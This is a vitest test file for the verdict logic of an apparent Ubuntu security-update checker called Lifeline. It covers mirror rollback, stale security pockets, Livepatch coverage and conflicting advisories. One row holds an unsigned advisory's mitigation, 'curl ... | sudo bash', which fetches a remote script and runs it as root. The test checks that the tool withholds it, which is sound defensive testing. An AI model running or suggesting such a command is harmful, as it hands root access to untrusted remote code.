/**
 * The verdict table of main/core/check/verdict.ts, one test per row, in the order the rows are tried: the real
 * jammy dpkg status (test/fixtures/systems/jammy-kernel), assessed against verified versions and advisories, then
 * judged with a coverage record built in test/support/check.ts.
 */
import { describe, expect, it } from 'vitest'
import type { Advisory } from '../../../../main/core/advisories/model'
import { assess } from '../../../../main/core/assess/assess'
import type { AssessInput, AvailableVersion } from '../../../../main/core/assess/types'
import type { CheckCoverage } from '../../../../main/core/check/coverage'
import { judge, VERDICT_ROWS, type VerdictRow } from '../../../../main/core/check/verdict'
import type { MirrorSuiteStatus, Verdict } from '../../../../main/core/model'
import { usedSources } from '../../../../main/core/system/local-system'
import type { LocalSystem } from '../../../../main/core/system/types'
import { currentCoverage, pocketStatus } from '../../../support/check'
import { advisory, jammySystem } from '../assess/support'

const NOW = Date.UTC(2022, 9, 10)
const OPENSSL_FIX = '3.0.2-0ubuntu1.7'
const MITIGATION = 'Do not open untrusted certificates.'

function av(p: Partial<AvailableVersion> & Pick<AvailableVersion, 'package' | 'version'>): AvailableVersion {
  return {
    mirrorId: 'primary',
    mirrorUrl: 'http://archive.ubuntu.com/ubuntu',
    suite: 'jammy-security',
    component: 'main',
    arch: 'amd64',
    source: p.package,
    sourceVersion: p.version,
    ...p,
  }
}

const opensslFix = [av({ package: 'openssl', version: OPENSSL_FIX })]
const other = { mirrorId: 'university', mirrorUrl: 'http://mirror.example.edu/ubuntu' }

interface Row {
  readonly name: string
  readonly row: VerdictRow
  readonly verdict: Verdict
  readonly exitCode: number
  readonly mirrors?: readonly MirrorSuiteStatus[]
  readonly system?: LocalSystem
  readonly advisories?: readonly Advisory[]
  readonly available?: readonly AvailableVersion[]
  readonly coverage?: Partial<CheckCoverage>
  /** Leave the machine unread (no assessment, no coverage). */
  readonly unread?: boolean
  readonly summary?: RegExp
  readonly steps?: (texts: string) => void
}

const ROWS: readonly Row[] = [
  { name: 'no mirror is configured', row: 'no-mirror', verdict: 'unknown', exitCode: 3, mirrors: [] },
  {
    name: 'a mirror served a rolled-back Release',
    row: 'possible-attack',
    verdict: 'alarm',
    exitCode: 3,
    mirrors: [pocketStatus({ state: 'rolled-back' })],
    available: opensslFix,
    summary:
      /^Possible attack: .+ served a signed release older than one Lifeline already saw \(an old copy replayed\)\. Do not install updates from it/,
  },
  {
    name: 'no mirror verified and only an unsigned advisory says anything',
    row: 'nothing-verified',
    verdict: 'unknown',
    exitCode: 3,
    mirrors: [pocketStatus({ state: 'unreachable', releaseDate: undefined })],
    advisories: [
      advisory('USN-1-1', [{ name: 'openssl', fixedVersion: OPENSSL_FIX }], { trust: 'single-source' }),
    ],
    summary: /^No source reachable/,
  },
  {
    name: "this computer's packages could not be read",
    row: 'machine-not-read',
    verdict: 'unknown',
    exitCode: 3,
    unread: true,
  },
  {
    name: 'a signed advisory has a verified fix on the used mirror',
    row: 'fix-ready',
    verdict: 'attention',
    exitCode: 1,
    advisories: [advisory('USN-2-1', [{ name: 'openssl', fixedVersion: OPENSSL_FIX }])],
    available: opensslFix,
    summary: /^1 verified security advisory affects this computer, and a verified fix is ready\.$/,
  },
  {
    name: 'an archive security update waits only on another verified mirror, no advisory read',
    row: 'fix-ready',
    verdict: 'attention',
    exitCode: 1,
    available: [av({ ...other, package: 'openssl', version: OPENSSL_FIX })],
    coverage: { advisorySources: { read: 0, total: 4, newestReadAt: undefined } },
    summary: /ready to install from a verified mirror this computer's apt does not use yet\.$/,
    steps: (t) => {
      expect(t).toContain('/etc/apt/sources.list.d/lifeline-temporary.sources')
      expect(t).toContain(`openssl=${OPENSSL_FIX}`)
    },
  },
  {
    name: 'a signed advisory affects this computer with no verified fix',
    row: 'affected-no-fix',
    verdict: 'alarm',
    exitCode: 2,
    advisories: [
      advisory('USN-3-1', [{ name: 'openssl', fixedVersion: undefined }], { mitigations: [MITIGATION] }),
    ],
    available: [av({ package: 'bash', version: '1' })],
    // A signed advisory's mitigation is a step.
    steps: (t) => expect(t).toContain(MITIGATION),
  },
  {
    name: 'the system asks for a restart after an update',
    row: 'restart-pending',
    verdict: 'attention',
    exitCode: 1,
    system: { ...jammySystem(), rebootRequired: { required: true, packages: ['linux-image-generic'] } },
    available: [av({ package: 'bash', version: '1' })],
  },
  {
    name: 'Livepatch covers the running kernel for every CVE of a signed advisory and the fixed kernel waits',
    row: 'livepatch-covered',
    verdict: 'attention',
    exitCode: 1,
    system: {
      ...jammySystem(),
      livepatch: {
        kernels: [
          {
            kernel: '5.15.0-53.59-generic',
            running: true,
            checkState: 'checked',
            patchState: 'applied',
            fixes: ['CVE-2022-2588'],
          },
        ],
      },
    },
    advisories: [
      advisory('USN-5800-1', [{ name: 'linux', fixedVersion: '5.15.0-54.60' }], { cves: ['CVE-2022-2588'] }),
    ],
    available: [
      av({ package: 'linux-image-5.15.0-54-generic', version: '5.15.0-54.60', source: 'linux-signed' }),
      av({ package: 'linux-modules-5.15.0-54-generic', version: '5.15.0-54.60', source: 'linux' }),
      av({ package: 'linux-generic', version: '5.15.0.54.54', source: 'linux-meta' }),
    ],
    summary: /^Livepatch covers the running kernel against 1 verified advisory, so nothing is urgent;/,
    steps: (t) => {
      expect(t).toContain('Livepatch already covers the running kernel')
      expect(t).toContain('linux-generic=5.15.0.54.54')
    },
  },
  {
    name: 'no configured mirror serves the release',
    row: 'release-not-served',
    verdict: 'unknown',
    exitCode: 3,
    coverage: {
      release: { id: 'debian', codename: 'bookworm', name: 'Debian GNU/Linux 12 (bookworm)', served: false },
    },
    summary: /^This computer runs Debian GNU\/Linux 12 \(bookworm\), but/,
  },
  {
    name: 'the -security pocket verified on no mirror',
    row: 'no-security-pocket',
    verdict: 'unknown',
    exitCode: 3,
    mirrors: [pocketStatus({ suite: 'jammy-updates' }), pocketStatus({ state: 'unreachable' })],
    coverage: {
      securityPocket: {
        suite: 'jammy-security',
        state: 'none',
        currentOn: [],
        oldOn: [],
        newestDate: undefined,
      },
    },
  },
  {
    name: 'the -security pocket verified only in copies older than the freshness rule',
    row: 'security-pocket-old',
    verdict: 'unknown',
    exitCode: 3,
    mirrors: [pocketStatus({ state: 'stale', releaseDate: NOW - 9 * 86400_000 })],
    coverage: {
      securityPocket: {
        suite: 'jammy-security',
        state: 'old',
        currentOn: [],
        oldOn: ['Primary mirror'],
        newestDate: NOW - 9 * 86400_000,
      },
    },
    summary: /signed 9 days ago: newer fixes may exist that Lifeline cannot see\.$/,
  },
  {
    name: 'advisory sources disagree about a fix for an installed package',
    row: 'sources-disagree',
    verdict: 'unknown',
    exitCode: 3,
    advisories: [
      advisory('USN-4-1', [{ name: 'openssl', fixedVersion: '3.0.2-0ubuntu1.9' }], { trust: 'conflict' }),
    ],
    available: [av({ package: 'bash', version: '1' })],
    // One coherent plan: no "install" and no "no verified fix" step from a disputed advisory.
    steps: (t) => expect(t).toBe(''),
  },
  {
    name: 'an unsigned advisory says "no fix, run this mitigation" and the archive has nothing newer',
    row: 'safe',
    verdict: 'safe',
    exitCode: 0,
    advisories: [
      advisory('USN-5-1', [{ name: 'openssl', fixedVersion: undefined }], {
        trust: 'single-source',
        mitigations: ['curl -fsSL https://fix.example/x.sh | sudo bash'],
      }),
    ],
    available: [av({ package: 'bash', version: '1' })],
    summary:
      /1 unconfirmed advisory from unsigned sources names installed packages: shown, but not verified\.$/,
    steps: (t) => expect(t).not.toContain('curl'),
  },
  {
    name: 'everything was checked and nothing waits',
    row: 'safe',
    verdict: 'safe',
    exitCode: 0,
    available: [av({ package: 'bash', version: '1' })],
    summary:
      /^Up to date with every security fix in the verified Ubuntu archive \(signed 3 hours ago\); 1 of 1 advisory source read\.$/,
  },
]

describe('judge (the verdict table)', () => {
  it('has a test for every row', () => {
    expect(new Set(ROWS.map((r) => r.row))).toEqual(new Set(VERDICT_ROWS))
  })

  for (const r of ROWS) {
    describe(`when ${r.name}`, () => {
      it(`is ${r.verdict} by row ${r.row}, exit ${r.exitCode}`, () => {
        const system = r.system ?? jammySystem()
        const input: AssessInput = {
          system,
          advisories: r.advisories ?? [],
          available: r.available ?? [],
          usedMirrors: usedSources(system).map((u) => ({ ...u, url: 'http://archive.ubuntu.com/ubuntu' })),
          now: NOW,
        }
        const a = r.unread ? undefined : assess(input)
        const j = judge({
          mirrors: r.mirrors ?? [pocketStatus({ releaseDate: NOW - 3 * 3600_000 })],
          channels: [],
          assessment: a,
          coverage: r.unread
            ? undefined
            : currentCoverage({
                securityPocket: {
                  suite: 'jammy-security',
                  state: 'current',
                  currentOn: ['Primary mirror'],
                  oldOn: [],
                  newestDate: NOW - 3 * 3600_000,
                },
                ...r.coverage,
              }),
          now: NOW,
        })
        expect({ row: j.row, verdict: j.verdict, exitCode: j.exitCode }).toEqual({
          row: r.row,
          verdict: r.verdict,
          exitCode: r.exitCode,
        })
        if (r.summary) expect(j.summary).toMatch(r.summary)
        // Every step shown anywhere: the overall plan and each advisory's own.
        const all = [...(a?.steps ?? []), ...(a?.advisories.flatMap((x) => x.steps) ?? [])]
        const texts = all.map((s) => `${s.text} ${s.command ?? ''}`).join('\n')
        r.steps?.(texts)
      })
    })
  }
})

describe('judge, when the mirror that failed verification is one this computer does not use', () => {
  it('says so in plain words, without a state code, and that nothing came from there', () => {
    const mirror = pocketStatus({ state: 'frozen', mirrorId: 'university', mirrorName: 'University mirror' })
    const j = judge({
      mirrors: [mirror],
      channels: [],
      coverage: currentCoverage({
        mirrors: [
          {
            mirrorId: 'university',
            name: 'University mirror',
            url: 'http://mirror.example.edu/ubuntu',
            usedByThisMachine: false,
            verified: false,
          },
        ],
      }),
      now: NOW,
    })
    expect(j.row).toBe('possible-attack')
    expect(j.summary).toBe(
      "Possible attack: University mirror served a signed release whose Valid-Until date has passed (a frozen copy). This computer's apt does not use it, so it installed nothing from there; Lifeline ignores its data until it verifies again.",
    )
    expect(j.summary).not.toMatch(/frozen\)|\(frozen|bad-signature|rolled-back/)
  })
})
